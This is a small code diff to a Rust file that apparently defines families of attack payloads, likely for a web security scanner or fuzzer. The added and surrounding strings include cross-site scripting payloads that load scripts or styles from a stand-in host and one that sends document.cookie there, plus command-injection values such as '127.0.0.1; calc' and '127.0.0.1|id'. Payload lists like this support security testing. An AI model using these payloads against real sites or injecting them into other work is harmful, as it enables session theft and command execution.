@@ -65,6 +65,8 @@ pub const FAMILIES: &[Family] = &[
             "import('//203.0.113.9/x.js')",
             "'-setTimeout(name)-'",
             "\")||fetch('//203.0.113.9/'+document.cookie)||(\"",
+            "<link rel=import href=//203.0.113.9/x.html>",
+            "<style>@import url(//203.0.113.9/x.css)</style>",
         ],
     },
     Family {
@@ -89,6 +91,7 @@ pub const FAMILIES: &[Family] = &[
             "; msbuild x.xml",
             "127.0.0.1|id",
             "x|$0 -c id",
+            "127.0.0.1; calc",
         ],
     },
     Family {
